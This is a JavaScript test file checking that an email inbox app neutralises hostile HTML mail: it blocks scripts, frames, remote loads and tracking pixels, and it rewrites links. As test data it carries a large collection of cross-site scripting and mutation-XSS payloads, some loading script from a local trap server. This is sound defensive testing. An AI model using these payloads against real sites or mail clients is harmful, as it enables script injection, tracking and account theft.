// Mail written by an enemy, opened in the real browser: nothing in it runs, nothing loads, nothing leaves, until remote images are asked for.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, describe, it } from "node:test";
import { expectNothing, openPage, rowOf, startBrowser } from "./support/browser.mjs";
import { Cleanup, makeOrganization, makeReply, OWNER, waitUntil } from "./support/program.mjs";

const PIXEL = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");

const cleanup = new Cleanup();
after(() => cleanup.run());

let program;
let secret;
let browser;
let trap;

/** A server that answers everything, so that only a request never made counts as blocked. */
async function startTrap() {
  const requests = [];
  const server = createServer((request, response) => {
    requests.push(request.url);
    response.writeHead(200, { "Content-Type": request.url.includes(".js") ? "text/javascript" : "image/gif", "Access-Control-Allow-Origin": "*" });
    response.end(request.url.includes(".js") ? "top.hacked = 1; window.hacked = 1;" : PIXEL);
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  cleanup.after(() => new Promise((resolve) => server.close(resolve)));
  return { requests, address: `http://127.0.0.1:${server.address().port}` };
}

before(async () => {
  ({ program, secret } = await makeOrganization(cleanup));
  browser = await startBrowser(cleanup);
  trap = await startTrap();
});

const RUN = "top.hacked=1;window.hacked=1;alert(1)";

/** Each is one mail; `T` is the trap. */
const mails = (T) => ({
  "script elements": `<script>${RUN}</script><script src="${T}/a.js"></script><scr<script>ipt>${RUN}</scr</script>ipt><SCRIPT/SRC="${T}/b.js"></SCRIPT>`,
  "event handlers": `<img src=x onerror="${RUN}"><body onload="${RUN}"><div onclick="${RUN}" onmouseover="${RUN}" style="width:400px;height:200px">hover</div><details open ontoggle="${RUN}"><summary>s</summary></details><input autofocus onfocus="${RUN}"><marquee onstart="${RUN}">m</marquee><video><source onerror="${RUN}"></video><p onpointerenter="${RUN}">p</p>`,
  "script links": `<a href="javascript:${RUN}">one</a> <a href=" java&#10;script:${RUN}">two</a> <a href="JaVaScRiPt&colon;${RUN}">three</a> <a href="data:text/html,<script>${RUN}</script>">four</a> <a href="vbscript:x">five</a> <a href="${T}/normal">six</a> <a href="//127.0.0.1/seven">seven</a> <a href="blob:x">eight</a> <a href="&#x1;javascript:${RUN}">nine</a> <a href="https://example.com/ok" target="_self" onclick="${RUN}">ten</a>`,
  "svg and mathml": `<svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text y="20">svg</text></a><image href="${T}/svg.gif"/><use href="data:image/svg+xml,<svg/onload=${RUN}>"/><animate attributeName="href" to="javascript:${RUN}"/><foreignObject><iframe src="${T}/frame"></iframe></foreignObject></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math><math href="javascript:${RUN}">m</math><svg><style><img src="</style><img src=x onerror=${RUN}>"></svg><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  "frames and objects": `<iframe src="${T}/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><iframe src="javascript:${RUN}"></iframe><object data="${T}/object"></object><embed src="${T}/embed"><applet code="x"></applet><frameset><frame src="${T}/frame2"></frameset><portal src="${T}/portal"></portal>`,
  "page control": `<meta http-equiv="refresh" content="0;url=${T}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *"><base href="${T}/"><a href="relative">relative</a><link rel="stylesheet" href="${T}/style.css"><link rel="prefetch" href="${T}/prefetch"><link rel="dns-prefetch" href="${T}"><link rel="icon" href="${T}/icon">`,
  "forms": `<form action="${T}/form" method="post"><input name="password" type="password" value="x"><button type="submit" formaction="javascript:${RUN}">Send</button><input type="image" src="${T}/input.gif"><isindex action="javascript:${RUN}"></form><button onclick="${RUN}">b</button>`,
  "styles": `<style>@import url("${T}/import.css"); body{background:url(${T}/style.gif)} @font-face{font-family:x;src:url(${T}/font.woff)} p{font-family:x}</style><p style="background:url(${T}/inline.gif)">a</p><p style="background-image:url('${T}/inline2.gif')">b</p><p style="list-style:url(${T}/list.gif);content:url(${T}/content.gif)">c</p><p style="width:expression(${RUN});behavior:url(${T}/x.htc);-moz-binding:url(${T}/x.xml)">d</p><p style="background:u\\72l(${T}/escaped.gif)">e</p><p style="background:image-set('${T}/set.gif' 1x)">f</p><div style="position:fixed;inset:0;z-index:99999;background:white">cover</div><table background="${T}/table.gif"><tr><td background="${T}/cell.gif">g</td></tr></table>`,
  "tracking": `<p>Hello</p><img src="${T}/pixel.gif" width="1" height="1"><img src="${T}/pixel2.gif" style="display:none"><img src="${T}/pixel3.gif" height="0"><img srcset="${T}/srcset.gif 1x" src="x:"><picture><source srcset="${T}/source.gif"><img src="${T}/pixel4.gif" width=1 height=1></picture><video poster="${T}/poster.gif" src="${T}/video"></video><audio src="${T}/audio" autoplay></audio><bgsound src="${T}/sound"><img lowsrc="${T}/low.gif" dynsrc="${T}/dyn.gif"><a href="https://example.com" ping="${T}/ping">p</a>`,
  "broken markup": `<<b>img src="${T}/broken.gif"<img """><script>${RUN}</script>"><p title="</p><script>${RUN}</script>">x</p><!--><script>${RUN}</script>--><!--[if mso]><img src="${T}/mso.gif"><![endif]--><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><textarea></textarea><script>${RUN}</script></textarea><title></title><img src=x onerror=${RUN}></title><template><script>${RUN}</script></template><xmp><script>${RUN}</script></xmp><plaintext><script>${RUN}</script>`,
});

async function expectUnharmed(page, what) {
  for (const frame of page.frames()) assert.equal(await frame.evaluate(() => window.hacked ?? null), null, `${what}: nothing ran`);
}

/** Nothing is asked of the message but to be harmless, so its links are read, and none followed. */
async function readLinks(frame) {
  return await frame.locator("a").evaluateAll((links) => links.map((link) => ({ text: link.textContent, href: link.getAttribute("href"), target: link.target, rel: link.rel })));
}

async function openMail(page, name) {
  await rowOf(page, name).click();
  await page.getByRole("region", { name: "Messages" }).getByRole("article").waitFor();
}

async function openFormatted(page) {
  const show = page.getByRole("button", { name: "Original formatting" });
  if (await show.count()) await show.click();
  await page.locator("iframe").waitFor();
  const frame = await waitUntil("the message has loaded", async () => {
    const found = await (await page.locator("iframe").elementHandle())?.contentFrame();
    return found && /\/html\?/.test(found.url()) && (await found.evaluate(() => document.readyState === "complete")) ? found : null;
  });
  return frame;
}

describe("hostile mail", () => {
  it("runs nothing, loads nothing and leads nowhere", async () => {
    const all = Object.entries(mails(trap.address));
    await program.postAll(
      secret,
      all.map(([name, html], index) =>
        makeReply({
          lead_email: `enemy${index}@example.com`, firstName: "Enemy", lastName: name, atMs: Date.now() - index * 1_000,
          reply_subject: `Re: ${name}`, reply_text: undefined, reply_html: `<html><body><p>visible ${index}</p>${html}</body></html>`,
        }),
      ),
    );
    const { page, seen, context } = await openPage(browser, program, { email: OWNER });
    await page.goto("/inbox");
    for (const [index, [name]] of all.entries()) {
      await openMail(page, `Enemy ${name}`);
      const plain = page.getByRole("region", { name: "Messages" }).getByRole("article");
      await plain.getByText(`visible ${index}`).or(page.locator("iframe")).first().waitFor();
      await expectUnharmed(page, `${name}, plain`);
      const frame = await openFormatted(page);
      await frame.getByText(`visible ${index}`).first().waitFor();
      await frame.locator("body").hover({ force: true, position: { x: 10, y: 10 } });
      await expectUnharmed(page, `${name}, formatted`);

      const links = await readLinks(frame);
      for (const link of links.filter(({ href }) => href !== null)) {
        assert.match(link.href, /^(https?:\/\/|mailto:|tel:)/i, `${name}: ${link.text} leads to ${link.href}`);
        assert.equal(link.target, "_blank", `${name}: ${link.text} opens beside`);
        assert.match(link.rel, /noopener/, `${name}: ${link.text} tells the target nothing`);
        assert.match(link.rel, /noreferrer/, `${name}: ${link.text} tells the target nothing`);
      }
      if (name === "script links") assert.deepEqual(links.filter(({ href }) => href).map(({ text }) => text), ["six", "ten"], "harmless links stay");
      const left = await frame.evaluate(() => {
        const names = [...document.querySelectorAll("body *")].map((element) => element.localName);
        const handlers = [...document.querySelectorAll("*")].flatMap((element) => [...element.attributes].filter(({ name }) => name.startsWith("on")));
        const styled = document.querySelectorAll("[style]").length;
        return { styled, forbidden: names.filter((tag) => /^(script|iframe|object|embed|form|input|button|svg|math|video|audio|base|meta|link)$/.test(tag)), handlers: handlers.length };
      });
      assert.deepEqual(left, { styled: 0, forbidden: [], handlers: 0 }, name);
      if (name === "event handlers") assert.equal(await frame.getByText("hover").evaluate((element) => getComputedStyle(element).height), "200px", "what a mail looks like stays");
      assert.equal(new URL(page.url()).host, new URL(program.address).host, `${name}: the page stayed`);
      assert.equal(context.pages().length, 1, `${name}: no window opened`);
    }
    assert.deepEqual(trap.requests, [], "nothing asked the trap for anything");
    expectNothing(seen);
    await context.close();
  });

  it("covers no part of the interface", async () => {
    const { page, context } = await openPage(browser, program, { email: OWNER });
    await page.goto("/inbox");
    await openMail(page, "Enemy styles");
    const frame = await openFormatted(page);
    const positions = await frame.evaluate(() => [...new Set([...document.querySelectorAll("body, body *")].map((element) => getComputedStyle(element).position))]);
    assert.deepEqual(positions, ["static"], "nothing leaves its place");
    await page.getByRole("button", { name: "Plain text" }).click();
    assert.equal(await page.locator("iframe").count(), 0);
    await context.close();
  });

  it("loads remote images only for the message they were asked for, and tracking pixels never", async () => {
    const image = (name) => `<p>${name}</p><img src="${trap.address}/${name}.gif" width="200" height="80" alt="Our catalogue"><img src="${trap.address}/${name}-pixel.gif" width="1" height="1"><img src="${trap.address}/${name}-hidden.gif" style="display:none">`;
    await program.postAll(
      secret,
      ["first", "second"].map((name) => makeReply({ lead_email: `${name}@example.com`, firstName: "Ida", lastName: `Image${name}`, reply_subject: name, reply_text: undefined, reply_html: image(name) })),
    );
    const { page, seen, context } = await openPage(browser, program, { email: OWNER });
    await page.goto("/inbox");
    await openMail(page, "Ida Imagefirst");
    const frame = await openFormatted(page);
    assert.equal(await frame.locator("img").getAttribute("alt"), "Our catalogue", "what the image says is there instead");
    assert.deepEqual(trap.requests, []);

    await page.getByRole("button", { name: "Show remote images" }).click();
    await waitUntil("the image is asked for", () => trap.requests.includes("/first.gif"));
    const shown = await openFormatted(page);
    await waitUntil("the image is shown", () => shown.evaluate(() => document.querySelector("img")?.naturalWidth > 0));
    assert.deepEqual(trap.requests, ["/first.gif"], "the image and nothing else");

    await openMail(page, "Ida Imagesecond");
    await openFormatted(page);
    await page.getByRole("button", { name: "Show remote images" }).waitFor();
    assert.deepEqual(trap.requests, ["/first.gif"], "the permission was for one message");
    expectNothing(seen);
    await context.close();
  });

  it("shows markup in names, subjects, labels, campaigns and fields as what it is: text", async () => {
    trap.requests.length = 0;
    const markup = (name) => `<img src=x onerror="${RUN}">${name}</mark><script src="${trap.address}/${name}.js"></script>{{${name}}}$t(title)`;
    const event = makeReply({
      lead_email: "markup@example.com", firstName: markup("first"), lastName: markup("last"), companyName: markup("company"), jobTitle: markup("job"),
      website: `javascript:${RUN}`, phone: markup("phone"), campaign_id: "0d2f5a6e-2f0c-4b0e-9a3e-5c3a51d0aa09", campaign_name: markup("campaign"), [markup("field")]: markup("value"),
      reply_subject: markup("subject"), reply_text: `${markup("text")} javascript:${RUN} https://example.com/"onmouseover="${RUN} http://example.com/ok`,
    });
    await program.postAll(secret, [event], 1);
    const { reply_subject: _subject, reply_text: _text, ...rest } = event;
    await program.postAll(secret, [{ ...rest, timestamp: new Date().toISOString(), event_type: markup("label") }, { ...rest, timestamp: new Date().toISOString(), event_type: `machine_${trap.address}<b>` }], 1);
    const { page, seen, context } = await openPage(browser, program, { email: OWNER });
    await page.goto("/inbox");
    await openMail(page, "onerror");
    const panel = page.getByRole("complementary", { name: "Contact" });
    await panel.getByText(markup("job")).waitFor();
    await panel.getByText(markup("value")).waitFor();
    const links = await page.locator("main a").evaluateAll((all) => all.map((link) => link.href));
    assert.deepEqual(links.filter((href) => !/^(https?:|tel:)/.test(href)), [], "no link but to the web and the telephone");
    for (const address of ["/campaigns", "/feed", "/settings/operations", "/search?q=onerror"]) {
      await page.goto(address);
      await page.getByText(/onerror/).first().waitFor();
      await expectUnharmed(page, address);
    }
    await page.locator("[data-hit] mark").first().waitFor();
    assert.equal(await page.locator("[data-hit] img, [data-hit] script").count(), 0);
    await page.goto("/campaigns");
    await page.getByRole("link", { name: /campaign/ }).last().click();
    await page.getByRole("heading", { level: 1 }).filter({ hasText: "onerror" }).waitFor();
    await expectUnharmed(page, "campaign");
    assert.deepEqual(trap.requests, []);
    expectNothing(seen);
    await context.close();
  });
});
